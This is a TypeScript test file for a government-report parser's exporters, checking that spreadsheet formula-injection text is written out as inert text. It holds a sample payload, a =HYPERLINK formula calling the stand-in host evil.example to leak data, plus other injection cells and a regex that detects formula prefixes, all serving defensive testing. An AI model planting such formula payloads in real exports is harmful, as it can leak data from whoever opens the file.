/**
 * A page of our own whose agency name and cells begin with =HYPERLINK(…), +, -, @ or a tab:
 * every export writes them as inert text, while numbers (a negative one too) stay numbers.
 */
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { SHEETS, toIssuesCsv, toJson, toLongCsv, toWideCsv, toXlsx, type ExportItem } from '../core/export/index';
import type { Issue } from '../core/model/schema';
import { parseHtml } from '../core/parse/index';

const EVIL = '=HYPERLINK("http://evil.example/?leak","点此查看")';

/** A tiny report page, written here: enough of tables 2 and 3 to be read as format 2021. */
const EVIL_PAGE = `<!doctype html><html><head><meta charset="utf-8"><title>${EVIL}2023年政府信息公开工作年度报告</title></head><body>
<h1>${EVIL}2023年政府信息公开工作年度报告</h1>
<p>二、主动公开政府信息情况</p>
<table border="1">
<tr><td colspan="4">第二十条第（一）项</td></tr>
<tr><td>信息内容</td><td>本年制发件数</td><td>本年废止件数</td><td>现行有效件数</td></tr>
<tr><td>行政规范性文件</td><td>1</td><td>0</td><td>5</td></tr>
<tr><td colspan="4">第二十条第（八）项</td></tr>
<tr><td>信息内容</td><td colspan="3">本年收费金额（单位：万元）</td></tr>
<tr><td>行政事业性收费</td><td colspan="3">12.5</td></tr>
</table>
<p>三、收到和处理政府信息公开申请情况</p>
<table border="1">
<tr><td colspan="3" rowspan="3">（本列数据的勾稽关系为：第一项加第二项之和，等于第三项加第四项之和）</td><td colspan="7">申请人情况</td></tr>
<tr><td rowspan="2">自然人</td><td colspan="5">法人或其他组织</td><td rowspan="2">总计</td></tr>
<tr><td>商业企业</td><td>科研机构</td><td>社会公益组织</td><td>法律服务机构</td><td>其他</td></tr>
<tr><td colspan="3">一、本年新收政府信息公开申请数量</td><td>${EVIL}</td><td>+1</td><td>@SUM(A1)</td><td>-x</td><td>0</td><td>0</td><td>-4</td></tr>
</table>
<p>四、政府信息公开行政复议、行政诉讼情况</p>
</body></html>`;

const report = parseHtml(EVIL_PAGE, { source: 'evil.html' });
const issue: Issue = {
  rule: 't3.row-total',
  severity: 'error',
  table: 't3',
  row: 'new_received',
  column: 'total',
  cells: [],
  expected: 1,
  actual: -4,
  expectedFrom: 'sum',
  candidates: [],
  message: `=${'1+1'} 总计不符`,
  messageEn: 'x',
  suspects: [],
};
const items: ExportItem[] = [{ report, issues: [issue] }];

/** Text that a spreadsheet would run as a formula. */
const active = (s: string) => /^[=+@\t\r]/.test(s) || (s.startsWith('-') && !/^-\d+(\.\d+)?$/.test(s));

describe('formula injection from a page', () => {
  it('the page is read with its hostile agency and cells (the parser keeps them as text)', () => {
    expect(report.meta.agency).toBe(EVIL);
    expect(report.meta.format).toBe('2021');
    expect(report.t3.new_received?.natural_person?.raw).toBe(EVIL);
    expect(report.t3.new_received?.total?.value).toBe(-4);
  });

  it('CSV (long, wide, issues): inert text, numbers unchanged', () => {
    for (const csv of [toLongCsv(items), toWideCsv(items), toIssuesCsv(items)]) {
      const fields = Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data.flat();
      expect(fields.filter(active)).toEqual([]);
      expect(fields).toContain(`'${EVIL}`);
    }
    const long = Papa.parse<string[]>(toLongCsv(items).slice(1)).data;
    const total = long.find((l) => l[5] === 'new_received' && l[6] === 'total')!;
    expect(total.slice(7)).toEqual(['-4', '-4']); // a plain number printed as text is no formula
    const at = long.find((l) => l[6] === 'research')!;
    expect(at.slice(7)).toEqual(['', "'@SUM(A1)"]);
  });

  it('XLSX: no formula anywhere, hostile text prefixed, numbers are numbers', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await toXlsx(items)) as unknown as ArrayBuffer);
    const texts: string[] = [];
    let formulas = 0;
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.formula) formulas++;
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      ),
    );
    expect(formulas).toBe(0);
    expect(texts.filter(active)).toEqual([]);
    expect(texts).toContain(`'${EVIL}`);
    expect(wb.getWorksheet(SHEETS.reports)!.getCell(2, 2).value).toBe(`'${EVIL}`);
    const long = wb.getWorksheet(SHEETS.long)!;
    const values: unknown[] = [];
    long.eachRow((row, n) => n > 1 && row.getCell(7).value === 'total' && values.push(row.getCell(8).value));
    expect(values).toEqual([-4]);
  });

  it('JSON keeps the text as printed (JSON is data, not a spreadsheet)', () => {
    expect(JSON.parse(toJson(items)).reports[0].report.meta.agency).toBe(EVIL);
  });
});
